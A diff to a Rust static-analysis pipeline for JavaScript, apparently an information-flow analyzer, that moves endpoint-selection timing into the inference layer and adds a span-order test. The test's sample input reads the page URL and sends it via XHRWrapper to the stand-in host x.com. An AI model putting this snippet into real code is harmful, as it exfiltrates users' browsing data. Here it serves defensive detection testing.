@@ -191,7 +191,9 @@ pub struct Report {
 /// Each setter consumes and returns the builder. [`Pipeline::run`]
 /// executes the layers in [`Layer::ALL`] order, emitting one flat span
 /// per layer to the attached tracer and collecting the pipeline
-/// counters and layer times either way.
+/// counters and layer times either way. Under triage inference's
+/// endpoint selection runs before phase 2, as a second
+/// [`Layer::Infer`] span there.
 #[must_use = "a Pipeline does nothing until .run(source)"]
 pub struct Pipeline<'t> {
     config: AnalysisConfig,
@@ -313,13 +315,16 @@ impl<'t> Pipeline<'t> {
         // no witnesses or PDG paths are possible — and caches hinge on
         // the knob being part of the canonical config. Triage decides from
         // the signature's endpoints, and inference reuses that one
-        // selection; without triage the selection is inference's own
-        // work, timed in its layer.
-        let selected = config.triage.then(|| jssig::Endpoints::select(&analysis));
+        // selection. The selection is inference's work, so it is timed in
+        // inference's layer either way: under triage that layer runs as
+        // two spans, this one before phase 2 and the rest after it.
+        let mut trace = Trace::On(&mut rec);
+        let selected = config
+            .triage
+            .then(|| trace.span(Layer::Infer, |_| jssig::Endpoints::select(&analysis)));
         let triaged = selected
             .as_ref()
             .is_some_and(jssig::Endpoints::flows_impossible);
-        let mut trace = Trace::On(&mut rec);
         let pdg = if triaged {
             Pdg::default()
         } else {
@@ -574,6 +579,34 @@ mod tests {
         // Tracer counters and Report counters are the same totals.
         assert_eq!(spans.counters(), &report.counters);
         assert!(report.counters.get(Counter::SignatureFlows) > 0);
+    }
+
+    #[test]
+    fn triage_selects_endpoints_inside_the_infer_layer() {
+        // Triage decides from inference's endpoint selection, which
+        // then runs before phase 2: as a second inference span, not
+        // between layers.
+        let config = AnalysisConfig::default().with_triage(true);
+        let flowing =
+            "var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);";
+        let pdg = [Layer::Supergraph, Layer::Ddg, Layer::Cdg, Layer::Assemble];
+        for (source, triaged) in [("var x = 1;", true), (flowing, false)] {
+            let mut spans = SpanCollector::new();
+            let report = Pipeline::new()
+                .config(config.clone())
+                .tracer(&mut spans)
+                .run(source)
+                .unwrap();
+            assert_eq!(report.triaged, triaged);
+            let mut expected = vec![Layer::Parse, Layer::Lower, Layer::Fixpoint, Layer::Infer];
+            if !triaged {
+                expected.extend(pdg);
+            }
+            expected.push(Layer::Infer);
+            let shape: Vec<(Layer, usize)> =
+                spans.spans().iter().map(|s| (s.layer, s.depth)).collect();
+            assert_eq!(shape, expected.into_iter().map(|l| (l, 0)).collect::<Vec<_>>());
+        }
     }
 
     #[test]
